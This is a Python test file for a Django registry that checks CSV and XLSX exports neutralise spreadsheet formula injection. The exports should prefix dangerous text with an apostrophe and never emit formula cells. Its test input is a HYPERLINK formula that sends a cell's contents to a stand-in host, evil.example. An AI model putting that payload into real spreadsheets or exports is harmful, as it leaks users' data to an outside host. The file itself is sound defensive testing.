"""CSV formula injection: text that a spreadsheet would run (starting with =, +, -, @, a tab
or a carriage return) comes out of every download prefixed with an apostrophe, in every
text column: the public CSV (whole and filtered) and the editors' exports of projects and
submissions (CSV and XLSX, through the admin's actions). XLSX cells are text, never
formulas. JSON carries the text as it is (it is data, not a spreadsheet)."""

import csv
import io
import json
import zipfile

import pytest
from django.contrib.auth.models import Group
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from registry.models import Project
from review import exports
from review.models import Submission
from tests.base import make_project, make_submission, make_user
from tests.security.helpers import body

pytestmark = pytest.mark.django_db

PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
FORMULA = 'HYPERLINK("http://evil.example/?leak="&A1,"Click")'
TEXT_COLUMNS = ["name", "name_en", "tagline", "description", "organization", "hq_city", "models_used"]


def dangerous(prefix, column, number):
    text = f"{prefix}{FORMULA} {column} {number}"
    return text[:80] if column in ("name", "name_en", "hq_city") else text


def contact_for(prefix, number):
    """An address starting with the prefix, where one is a valid address."""
    return f"{prefix}cmd{number}@example.com" if prefix in "=+-" else f"cmd{number}@example.com"


@pytest.fixture
def listings(db):
    projects, submissions = {}, {}
    owner = make_user("owner")
    for number, prefix in enumerate(PREFIXES):
        fields = {column: dangerous(prefix, column, number) for column in TEXT_COLUMNS}
        projects[prefix] = make_project(
            slug=f"formula-{number}",
            contact_email=contact_for(prefix, number),
            show_contact_email=True,
            listed_by="editors",
            **fields,
        )
        submissions[prefix] = make_submission(  # submitted: staff never see drafts
            owner, state="submitted", contact_email=contact_for(prefix, number), **fields
        )
    return projects, submissions


def editor_client():
    editor = make_user("editor", is_staff=True)
    editor.groups.add(Group.objects.get(name="Editors"))
    client = Client()
    client.force_login(editor)
    return client


def read_csv(text):
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


def read_xlsx(content):
    """(header, rows of values) of the first sheet; and it holds no formula at all."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    rows = list(sheet.iter_rows())
    for row in rows:
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
    header = [cell.value for cell in rows[0]]
    return [dict(zip(header, [cell.value for cell in row], strict=True)) for row in rows[1:]]


def neutralised(value):
    return "'" + value


def check_rows(rows, listings_by_prefix, key, where, *, xml=False):
    """Every text column of every listing, prefixed. `xml`: read back from XML, where a
    carriage return comes back as a line feed (XML's line-end handling, not ours)."""
    by_key = {row[key]: row for row in rows}
    checked = 0
    for prefix, listing in listings_by_prefix.items():
        row = by_key[str(getattr(listing, key))]
        for column in TEXT_COLUMNS:
            expected = neutralised(getattr(listing, column))
            if xml:
                expected = expected.replace("\r", "\n")
            assert row[column] == expected, (where, repr(prefix), column)
            checked += 1
        expected_contact = listing.contact_email
        if expected_contact[:1] in PREFIXES:
            expected_contact = neutralised(expected_contact)
        assert row["contact_email"] == expected_contact, (where, repr(prefix), "contact_email")
    return checked


@pytest.mark.parametrize("query", ["", "?q=HYPERLINK", "?track=agents&sort=name"])
def test_the_public_csv_neutralises_every_text_column(client, listings, query):
    projects, _submissions = listings
    response = client.get(reverse("registry:data-csv") + query)
    rows = read_csv(body(response))
    assert check_rows(rows, projects, "slug", f"/data/projects.csv{query}") == len(PREFIXES) * len(
        TEXT_COLUMNS
    )


def test_the_public_json_keeps_the_text_as_it_is(client, listings):
    projects, _submissions = listings
    records = {
        record["slug"]: record for record in json.loads(body(client.get(reverse("registry:data-json"))))
    }
    for project in projects.values():
        for column in TEXT_COLUMNS:
            assert records[project.slug][column] == getattr(project, column)


def export(client, model, action, objects):
    return client.post(
        reverse(f"admin:{model}_changelist"),
        {"action": action, "_selected_action": [obj.pk for obj in objects], "index": 0},
    )


def test_the_editors_project_exports_neutralise_every_text_column(listings):
    projects, _submissions = listings
    client = editor_client()
    selected = list(projects.values())
    rows = read_csv(body(export(client, "registry_project", "export_csv", selected)))
    check_rows(rows, projects, "slug", "the projects' CSV export")
    response = export(client, "registry_project", "export_xlsx", selected)
    rows = read_xlsx(response.content)
    check_rows(rows, projects, "slug", "the projects' XLSX export", xml=True)
    assert list(rows[0]) == exports.PROJECT_COLUMNS


def test_the_editors_submission_exports_neutralise_every_text_column(listings):
    _projects, submissions = listings
    client = editor_client()
    selected = list(submissions.values())
    rows = read_csv(body(export(client, "review_submission", "export_csv", selected)))
    check_rows(rows, submissions, "id", "the submissions' CSV export")
    rows = read_xlsx(export(client, "review_submission", "export_xlsx", selected).content)
    for row in rows:
        row["id"] = str(row["id"])
    check_rows(rows, submissions, "id", "the submissions' XLSX export", xml=True)


def test_ordinary_text_is_left_alone(client, db):
    make_project(
        name="灵犀客服", tagline="A tagline - with a dash", organization="O'Brien & Co", slug="plain"
    )
    (row,) = read_csv(body(client.get(reverse("registry:data-csv"))))
    assert (row["name"], row["tagline"], row["organization"]) == (
        "灵犀客服",
        "A tagline - with a dash",
        "O'Brien & Co",
    )
    assert Project.objects.count() == 1 and not Submission.objects.exists()
